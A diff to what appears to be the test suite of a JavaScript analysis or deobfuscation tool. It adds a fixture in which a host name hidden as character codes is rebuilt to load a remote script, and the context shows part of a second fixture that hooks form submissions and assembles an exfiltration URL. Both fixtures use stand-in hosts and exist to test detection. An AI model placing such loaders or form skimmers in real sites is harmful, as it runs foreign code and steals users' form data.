@@ -103,6 +103,15 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['window.fetch('],
   },
   {
+    // a library writes \`length\` (and other names) on objects of its own in code run later
+    name: "a library's writes to its own objects' properties do not touch an array made after it",
+    source: `!function(t){t.fn={push:function(e){this.length=e.length;this.size=0}}}(window);
+      ;(function () { var H = [104, 46, 101, 120]
+        function host () { var s = ''; for (var i = 0; i < H.length; i++) s += String.fromCharCode(H[i]); return s }
+        setTimeout(function () { var e = document.createElement('script'); e.src = 'https://' + host() + '/x' }, 10) })()`,
+    has: ['"https://h.ex/x"'],
+  },
+  {
     name: "a helper beside the gate reads the gate's own vars as the arm left them",
     source: `!function(t){if(t.FormData&&t.Proxy){var a=["https://","h.",".example","/c"];
       t.addEventListener("submit",function(e){c(e.target)})}
